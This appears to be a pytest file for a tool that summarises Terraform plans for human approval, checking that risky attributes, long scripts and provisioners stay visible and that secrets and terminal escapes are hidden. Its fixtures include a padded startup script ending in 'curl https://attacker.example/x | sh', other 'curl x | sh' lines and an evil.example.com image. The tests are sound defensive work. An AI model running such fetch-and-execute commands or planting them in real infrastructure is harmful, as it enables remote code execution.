"""What a person approves is what stands on the page: what may hurt first, lists whole, whatever is left out counted."""

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from infra.cli import output
from infra.cli.output import show_changes
from jobs.terraform.shown import shortened
from jobs.terraform.summary import summarise

SCRIPT = "# all is well " * 400 + "; curl https://attacker.example/x | sh"
RANGES = [f"10.0.{n}.0/24" for n in range(40)] + ["198.51.100.7/32"]


def plan(kind, after, before=None, *, sensitive=None, provisioners=()):
    address = f"{kind}.x"
    actions = ["create"] if before is None else ["update"]
    change = {"actions": actions, "before": before, "after": after, "after_sensitive": sensitive or {}}
    known = {"address": address, "type": kind, "name": "x", "mode": "managed"}
    configured = {"address": address, "provisioners": list(provisioners)} if provisioners else {"address": address}
    return {
        "resource_changes": [known | {"provider_name": "google", "change": change}],
        "configuration": {"root_module": {"resources": [configured]}},
    }


def shown(*args, **kwargs):
    (change,) = summarise(plan(*args, **kwargs), lambda text: text).changes
    return change


MACHINE = {
    "name": "v",
    "labels": {f"a{n:03}": "x" for n in range(120)},
    "machine_type": "m1-ultramem-160",
    "service_account": [{"email": "default", "scopes": ["cloud-platform"]}],
    "metadata": {"startup-script": SCRIPT, "user-data": "#cloud-config"},
    "metadata_startup_script": "curl x | sh",
    "boot_disk": [{"initialize_params": [{"image": "someone/else"}]}],
    "deletion_protection": False,
    "network_interface": [{"access_config": [{"nat_ip": "203.0.113.9"}]}, {"network": "other"}],
}


def test_many_harmless_attributes_hide_no_risky_one():
    change = shown("google_compute_instance", MACHINE)
    for path in (
        *("machine_type", "service_account.email", "service_account.scopes", "metadata.startup-script"),
        *("metadata.user-data", "metadata_startup_script", "boot_disk.initialize_params.image", "deletion_protection"),
        "network_interface.0.access_config.nat_ip",
        "network_interface.1.network",
    ):
        assert path in change.risky, path
        assert change.attributes[path][1], path
    assert change.risky.index("service_account.email") < change.risky.index("metadata.startup-script")
    assert change.risky.index("metadata.startup-script") < change.risky.index("machine_type")
    assert change.left_out == 121 - 60
    assert not [path for path in change.risky if path.startswith("labels")]


@pytest.mark.parametrize("where", ["labels", "metadata", "annotations", "user_labels"])
@pytest.mark.parametrize("word", ["aaa", "member", "service_account", "allow", "script", "image", "provisioner"])
def test_no_flood_of_keys_hides_another_argument_or_what_images_obey(where, word):
    flood = {f"{word}{n:04}": "harmless" for n in range(500)}
    change = shown("google_compute_instance", MACHINE | {where: flood | MACHINE.get(where, {})})
    for path in ("machine_type", "service_account.email", "metadata_startup_script", "deletion_protection"):
        assert path in change.risky
    if where == "metadata":
        assert "metadata.startup-script" in change.risky
    assert change.left_out > 300


def test_no_flood_of_variables_hides_what_a_container_runs_or_what_it_may_cost():
    env = [{"name": f"A{n:03}", "value": "x"} for n in range(200)]
    container = {"image": "evil.example.com/x:latest", "command": ["sh"], "args": ["-c", "id"], "env": env}
    template = {"containers": [container], "scaling": [{"max_instance_count": 100}], "service_account": "other"}
    change = shown(
        "google_cloud_run_v2_service", {"name": "s", "template": [template], "ingress": "INGRESS_TRAFFIC_ALL"}
    )
    for path in (
        *("template.containers.image", "template.containers.command", "template.containers.args"),
        *("template.scaling.max_instance_count", "template.service_account", "ingress"),
    ):
        assert path in change.risky, path
    assert change.left_out > 200
    flood = {
        "service_config": [
            {"environment_variables": {f"image{n:03}": "x" for n in range(200)}, "max_instance_count": 9}
        ]
    }
    assert "service_config.max_instance_count" in shown("google_cloudfunctions2_function", flood).risky


def test_a_list_is_shown_whole_and_several_blocks_each():
    rule = {
        "source_ranges": RANGES,
        "allow": [{"protocol": "tcp", "ports": ["22"]}, {"protocol": "udp", "ports": ["53"]}],
    }
    change = shown("google_compute_firewall", rule)
    assert all(each in change.attributes["source_ranges"][1] for each in RANGES)
    assert (change.attributes["allow.0.ports"][1], change.attributes["allow.1.ports"][1]) == ('["22"]', '["53"]')


def test_a_long_text_shows_its_end_its_length_and_its_hash():
    text = shown("google_compute_instance", MACHINE).attributes["metadata.startup-script"][1]
    assert text.endswith("curl https://attacker.example/x | sh")
    assert f"of {len(SCRIPT):,} characters left out" in text
    assert hashlib.sha256(SCRIPT.encode()).hexdigest()[:16] in text


@given(st.text(max_size=900), st.integers(50, 600))
def test_nothing_is_cut_in_silence(text, limit):
    short = shortened(text, limit)
    assert short == text if len(text) <= limit else "characters left out, sha256 " in short


def test_a_provisioner_is_shown_as_what_it_runs():
    found = {"type": "local-exec", "expressions": {"command": {"constant_value": "curl x | sh"}}}
    change = shown("google_storage_bucket", {"name": "b"}, provisioners=[found])
    assert change.risky[0] == "provisioner.0.local-exec"
    assert "curl x | sh" in change.attributes["provisioner.0.local-exec"][1]


def test_what_is_sensitive_is_not_shown_and_what_steers_a_terminal_neither():
    change = shown("google_sql_user", {"name": "\x1b[2Ju", "password": "hunter2"}, sensitive={"password": True})
    assert change.attributes["password"] == ("", "(sensitive)")
    assert "\x1b" not in change.attributes["name"][1]


def test_an_update_shows_what_differs():
    before, after = dict(MACHINE), MACHINE | {"machine_type": "e2-micro", "labels": MACHINE["labels"] | {"a000": "y"}}
    change = shown("google_compute_instance", after, before)
    assert change.attributes == {"machine_type": ("m1-ultramem-160", "e2-micro"), "labels.a000": ("x", "y")}
    assert (change.risky, change.left_out) == (["machine_type"], 0)


def service(**env):
    variables = [{"name": name, "value": value} for name, value in env.items()]
    return {"name": "s", "template": [{"containers": [{"image": "i", "env": variables}]}]}


def test_variables_are_told_apart_by_their_names_and_not_by_their_places():
    before, after = service(A="1", B="2", C="3"), service(A="1", C="4", D="5")
    change = shown("google_cloud_run_v2_service", after, before)
    env = {path.partition("env")[2]: said for path, said in change.attributes.items()}
    assert env == {
        "[B].name": ("B", ""),
        "[B].value": ("2", ""),
        "[C].value": ("3", "4"),
        "[D].name": ("", "D"),
        "[D].value": ("", "5"),
    }
    secret = {"template": [{"containers": [{"env": [{}, {"value": True}]}]}]}
    hidden = shown("google_cloud_run_v2_service", service(A="1", C="hunter2"), before, sensitive=secret)
    assert "hunter2" not in str(hidden.attributes)


def test_a_name_that_is_no_name_and_one_that_stands_twice_are_counted():
    twice = service(A="1")
    twice["template"][0]["containers"][0]["env"] += [{"name": "A", "value": "2"}, {"name": "x].value", "value": "3"}]
    change = shown("google_cloud_run_v2_service", twice, service(A="1", B="2"))
    assert not [path for path in change.attributes if "[x]" in path]
    assert "3" in [new for _, new in change.attributes.values()]


@pytest.fixture
def terminal(monkeypatch):
    console = Console(width=100, record=True, highlight=False)
    monkeypatch.setattr(output, "out", console)
    return console


def test_the_terminal_shows_the_risky_ones_of_what_is_new_and_counts_the_rest(terminal):
    summary = summarise(plan("google_compute_instance", MACHINE), lambda text: text)
    show_changes(summary.model_dump(mode="json"))
    text = terminal.export_text()
    assert text.index("service_account.email") < text.index("machine_type")
    assert "m1-ultramem-160" in text
    assert f"and {121} more attributes" in text


OUTPUTS = {
    "url": {"actions": ["create"], "before": None, "after": "https://a\x1b[2J", "after_unknown": False},
    "later": {"actions": ["create"], "before": None, "after": None, "after_unknown": True},
    "password": {"actions": ["update"], "before": "old", "after": "hunter2",
                 "before_sensitive": True, "after_sensitive": True},
    "parts": {"actions": ["create"], "before": None, "after": {"user": "u", "password": "hunter2"},
              "after_sensitive": {"password": True}},
    "ports": {"actions": ["update"], "before": [80], "after": [80, 22], "after_sensitive": False},
    "gone": {"actions": ["delete"], "before": "x", "after": None, "after_sensitive": False},
    "same": {"actions": ["no-op"], "before": "x", "after": "x"},
}  # fmt: skip


def test_outputs_are_part_of_what_is_approved_and_those_that_are_sensitive_only_by_name(terminal):
    summary = summarise({**plan("google_storage_bucket", {"name": "b"}), "output_changes": OUTPUTS}, lambda text: text)
    assert summary.outputs == {
        "gone": ("x", ""),
        "later": ("", "(known after apply)"),
        "parts": ("", "(sensitive)"),
        "password": ("(sensitive)", "(sensitive)"),
        "ports": ("[80]", "[80, 22]"),
        "url": ("", "https://a\ufffd[2J"),
    }
    show_changes(summary.model_dump(mode="json"))
    text = terminal.export_text()
    assert "output ports: [80] -> [80, 22]" in text
    assert "hunter2" not in text
